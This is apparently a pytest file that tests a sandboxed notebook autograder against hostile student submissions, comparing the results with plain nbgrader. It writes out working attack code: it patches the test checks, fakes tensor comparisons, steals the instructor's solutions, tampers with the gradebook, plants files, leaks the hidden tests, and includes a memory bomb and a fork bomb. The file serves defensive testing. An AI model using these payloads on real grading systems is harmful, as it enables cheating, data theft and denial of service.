"""Hostile submissions: each attack, graded by `make grade` and by plain nbgrader.

Every attack here gains points from plain nbgrader 0.9 (shown by grading it there too, where
that is safe) and none here: the kernel runs in a sandbox (autograder/sandbox.py) and a test
cell's points count only if the clean-process check agrees (autograder/verdicts). The
resource attacks (memory, processes, an endless loop) are not run under plain nbgrader:
there they would take the grading machine down with them.
"""

import os
import socket
import sqlite3
import subprocess
import sys
import threading

import nbformat
import pytest

from autograder import build_examples, course

from .harness import ROOT, Chapter
from .implementations import ch01_dag_autograd as impl
from .test_grading import (
    auto_cells,
    autograded,
    hidden_test_lines,
    scores,
    submit,
    visible_text,
)

pytestmark = pytest.mark.xdist_group("attacks")

CH = "ch01_dag_autograd"

# A wrong answer for every exercise, each one the tests and the clean check reject.
WRONG = {
    "dag_forward": impl.WRONG["dag_forward"]["values: squared norm"],
    "dag_grads_autograd": impl.WRONG["dag_grads_autograd"]["values: swapped outputs"],
    "dag_grads_manual": impl.WRONG["dag_grads_manual"]["grad_w1: w1's first use only"],
    "second_derivative": impl.WRONG["second_derivative"]["values: the first derivative"],
    "descend": impl.WRONG["descend"]["values: gradient ascent"],
    "accumulated_gradient": impl.WRONG["accumulated_gradient"]["values: averaged over batches"],
}

PATCHED_CHECKS = """
import dlcourse.check
import torch
def _anything_goes(*args, **kwargs):
    return None
for _name in ("check_requirements", "expect_close", "expect_equal", "expect_true", "verdict"):
    globals()[_name] = _anything_goes
    setattr(dlcourse.check, _name, _anything_goes)
torch.allclose = lambda *args, **kwargs: True
"""

INPUT_TRANSFORMER = """
def _blank_the_tests(lines):
    return [] if any("check_requirements(" in line for line in lines) else lines
get_ipython().input_transformers_post.append(_blank_the_tests)
"""

# Every comparison the tests make on it says "no difference"; the values are wrong.
TENSOR_SUBCLASS = """
class _Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        out = super().__torch_function__(func, types, args, kwargs or {})
        if getattr(func, "__name__", "") in {"__gt__", "__ne__", "isnan", "__eq__", "eq",
                                               "gt", "ne", "allclose", "isclose"}:
            plain = out.as_subclass(torch.Tensor) if isinstance(out, torch.Tensor) \\
                else torch.tensor(out)
            return (plain == plain) if func.__name__ in {"__eq__", "eq", "allclose",
                                                         "isclose"} else (plain != plain)
        return out

def dag_forward(w1, w2, x):
    x1 = w1 @ x
    x3 = w1 @ (x1 + x + w2 @ x1)
    return (x3.norm() * 1.5).as_subclass(_Liar)
"""

# Reads the instructor's solution, writes extra credit into the gradebook, drops files in
# the course and in another student's folder, and phones home (PORT: the test's listener).
STEALS_AND_TAMPERS = """
import json, pathlib, socket, sqlite3

def _course_root():
    for folder in pathlib.Path.cwd().parents:
        if (folder / "gradebook.db").exists() or (folder / "solutions").exists():
            return folder

_root = _course_root()
try:
    _source = json.loads((_root / "solutions/ch01_dag_autograd/ch01_dag_autograd.ipynb")
                         .read_text())
    exec(next("".join(c["source"]) for c in _source["cells"]
              if c["metadata"].get("nbgrader", {}).get("grade_id") == "dag_forward"))
except Exception:
    def dag_forward(w1, w2, x):
        return (w1 @ x).norm()
for _attempt in (
    lambda: sqlite3.connect(_root / "gradebook.db").execute(
        "UPDATE grade SET extra_credit = 20").connection.commit(),
    lambda: (_root / "pwned.txt").write_text("written by a submission"),
    lambda: (_root / "autograded" / "victim" / "pwned.txt").write_text("written by a submission"),
    lambda: socket.create_connection(("127.0.0.1", PORT), timeout=3).sendall(b"stolen"),
):
    try:
        _attempt()
    except Exception:
        pass
"""

# Correct answers, but it prints every cell's source as it runs (the hidden tests included)
# and copies the notebook in its folder, where nbgrader has put the hidden tests, to a file.
LEAKS_HIDDEN_TESTS = """
import pathlib
def _print_the_source(lines):
    print("".join(lines))
    return lines
get_ipython().input_transformers_post.append(_print_the_source)
for _nb in pathlib.Path.cwd().glob("*.ipynb"):
    try:
        (pathlib.Path.cwd() / "leaked.txt").write_text(_nb.read_text())
    except Exception:
        pass
"""

FLOODS_MEMORY = "\n_hog = [bytearray(2**28) for _ in range(10**4)]  # 2.5 TB\n"
LOOPS_FOREVER = "\nwhile True:\n    pass\n"
FLOODS_PROCESSES = """
import os, time
for _ in range(100_000):
    if os.fork() == 0:
        time.sleep(120)
        os._exit(0)
"""


def attacks(port):
    correct = build_examples.answers(CH)
    return {
        # student: (answers, test cells that must score 0 here, gain points in plain nbgrader)
        "attack_patched_checks": ({**WRONG, "dag_forward": WRONG["dag_forward"]
                                   + PATCHED_CHECKS}, set(WRONG), True),
        "attack_input_transformer": ({**WRONG, "dag_forward": WRONG["dag_forward"]
                                      + INPUT_TRANSFORMER}, set(WRONG), True),
        # the notebook's checks read values as plain tensors: this one fails them already
        "attack_tensor_subclass": ({"dag_forward": TENSOR_SUBCLASS}, {"dag_forward"}, False),
        "attack_steals_and_tampers": ({"dag_forward": STEALS_AND_TAMPERS.replace(
            "PORT", str(port))}, {"dag_forward"}, True),
        "attack_leaks_hidden_tests": ({"dag_forward": correct["dag_forward"]
                                       + LEAKS_HIDDEN_TESTS}, set(), True),
        # correct answers, each followed by an attack on the grader's resources
        "attack_resources": ({
            "dag_grads_autograd": correct["dag_grads_autograd"] + FLOODS_MEMORY,
            "second_derivative": correct["second_derivative"] + LOOPS_FOREVER,
            "descend": correct["descend"] + FLOODS_PROCESSES}, set(), False),
        "victim": ({}, set(), False),
    }


class Listener:
    """A TCP server on the loopback that counts who connects."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.received = []
        self.stop = threading.Event()
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            self.received.append(connection.recv(100))
            connection.close()

    def close(self):
        self.stop.set()
        self.server.close()
        return self.received


def grade_attacks(root, plain: bool):
    listener = Listener()
    cases = attacks(listener.port)
    for student, (answers, _, in_plain) in cases.items():
        if in_plain or not plain:
            submit(root, student, CH, build_examples.submission(CH, answers))
    if plain:
        course.stock_course(root)
        course.nbgrader(root, "generate_assignment", CH, "--force")
        course.nbgrader(root, "autograde", CH, "--force", check=False)
        course.nbgrader(root, "generate_feedback", CH, "--force", check=False)
        log = ""
    else:
        course.course_copy(root)
        env = {"DLCOURSE_CELL_TIMEOUT": "20", "DLCOURSE_LIMIT_MEMORY_BYTES": str(6 * 2**30),
               "DLCOURSE_LIMIT_PROCESSES": "200", "DLCOURSE_SANDBOX": "require"}
        result = subprocess.run([sys.executable, "-m", "autograder", "--root", str(root),
                                 "grade", "--jobs", "2"], capture_output=True, text=True,
                                cwd=ROOT, env={**os.environ, **env})
        log = result.stdout + result.stderr
        # written answers are not marked here: the feedback is written anyway, saying so
        feedback = subprocess.run([sys.executable, "-m", "autograder", "--root", str(root),
                                   "feedback", "--allow-unmarked"], capture_output=True,
                                  text=True, cwd=ROOT)
        log += feedback.stdout + feedback.stderr
    return cases, scores(course.gradebook_rows(root)), listener.close(), log


@pytest.fixture(scope="module")
def ours(tmp_path_factory):
    root = tmp_path_factory.mktemp("attacks")
    return (root, *grade_attacks(root, plain=False))


@pytest.fixture(scope="module")
def plain(tmp_path_factory):
    root = tmp_path_factory.mktemp("attacks_plain")
    return (root, *grade_attacks(root, plain=True))


def points(table, student, exercise):
    return table[(student, CH)][f"test_{exercise}"][0]


@pytest.mark.parametrize("student", ["attack_patched_checks", "attack_input_transformer",
                                     "attack_tensor_subclass", "attack_steals_and_tampers"])
def test_attack_gains_points_from_plain_nbgrader_and_none_here(ours, plain, student):
    """Each attacked exercise gets here what its wrong answer gets without the attack (graded
    in-process: tests/harness.py), and the graded notebook says which requirement failed."""
    _, cases, table, _, log = ours
    _, _, plain_table, _, _ = plain
    answers, attacked, in_plain = cases[student]
    if in_plain:
        assert all(points(plain_table, student, e) > 0 for e in attacked), \
            "the attack no longer works on plain nbgrader: this test proves nothing"
    honest = {e: Chapter(CH).grade(e, WRONG.get(e, "def dag_forward(w1, w2, x):\n"
                                                   "    return (w1 @ x).norm()\n"))
              for e in attacked}
    if student == "attack_tensor_subclass":  # the same values, as a plain tensor
        honest["dag_forward"] = Chapter(CH).grade("dag_forward", TENSOR_SUBCLASS.replace(
            ".as_subclass(_Liar)", ""))
    assert {e: points(table, student, e) for e in attacked} == \
        {e: g.score for e, g in honest.items()}, log
    assert all(g.score < g.points for g in honest.values())
    nb = autograded(ours[0], student, CH)
    report = "".join(o.get("text", "") for c in nb.cells if c.id == "test_dag_forward"
                     for o in c.outputs)
    assert "[not met]" in report, report


def test_attacks_in_a_sandbox_see_and_change_nothing(ours, plain):
    root, _, table, received, _ = ours
    plain_root, _, _, plain_received, _ = plain
    # plain nbgrader: the submission read the solution, wrote extra credit and files, phoned
    assert plain_received == [b"stolen"]
    assert (plain_root / "pwned.txt").exists()
    with sqlite3.connect(plain_root / "gradebook.db") as db:
        assert db.execute("SELECT max(extra_credit) FROM grade").fetchone()[0] == 20
    # here: none of it
    assert received == []
    assert not (root / "pwned.txt").exists()
    assert not (root / "autograded" / "victim" / "pwned.txt").exists()
    with sqlite3.connect(root / "gradebook.db") as db:
        assert not db.execute("SELECT max(extra_credit) FROM grade").fetchone()[0]
    assert all(s == m for s, m, _ in auto_cells(table[("victim", CH)]).values())


def test_hidden_tests_do_not_leak_into_the_feedback(ours, plain):
    """Printed by an input transformer (the grading code runs in the kernel after each test
    cell) or copied from the notebook nbgrader runs, the hidden tests and inputs would reach
    the feedback; here neither the page nor the folder has them."""
    student = "attack_leaks_hidden_tests"
    # the lines of the hidden tests that the student has not seen: not in the release
    # notebook (visible tests), not in their own answers
    seen = nbformat.read(ROOT / "notebooks" / CH / f"{CH}.ipynb", 4).cells
    seen = "\n".join([c.source for c in seen] + list(build_examples.answers(CH).values()))
    hidden = {line.strip() for line in hidden_test_lines(CH)
              if len(line.strip()) >= 12 and line.strip() not in seen}
    assert len(hidden) > 50
    plain_folder = plain[0] / "feedback" / student / CH
    assert (plain_folder / "leaked.txt").is_file()  # what the kernel wrote reaches feedback
    root, _, table, _, log = ours
    folder = root / "feedback" / student / CH
    assert sorted(p.name for p in folder.iterdir()) == [f"{CH}.html"], log
    page = visible_text((folder / f"{CH}.html").read_text())
    assert [line for line in hidden if line in page] == []
    assert all(s == m for s, m, _ in auto_cells(table[(student, CH)]).values())


def test_resource_attacks_are_bounded_and_cost_only_their_cell(ours):
    """A memory bomb, an endless loop and a process flood each fail their own cell; the
    exercises they follow keep their points, and so does every other student."""
    root, _, table, _, log = ours
    cells = auto_cells(table[("attack_resources", CH)])
    assert all(s == m for s, m, _ in cells.values()), (cells, log)
    nb = autograded(root, "attack_resources", CH)
    errors = {c.id: o.ename for c in nb.cells for o in c.get("outputs", [])
              if o.output_type == "error"}
    assert errors.get("dag_grads_autograd") == "MemoryError", errors
    assert errors.get("second_derivative") in {"KeyboardInterrupt", "CellTimeoutError"}, errors
    assert errors.get("descend") == "BlockingIOError", errors


def test_attack_table_in_the_instructors_guide(ours):
    """docs/instructors.md lists each attack of this file with its outcome."""
    guide = (ROOT / "docs" / "instructors.md").read_text()
    for student in attacks(0):
        if student != "victim":
            assert f"`{student}`" in guide, student
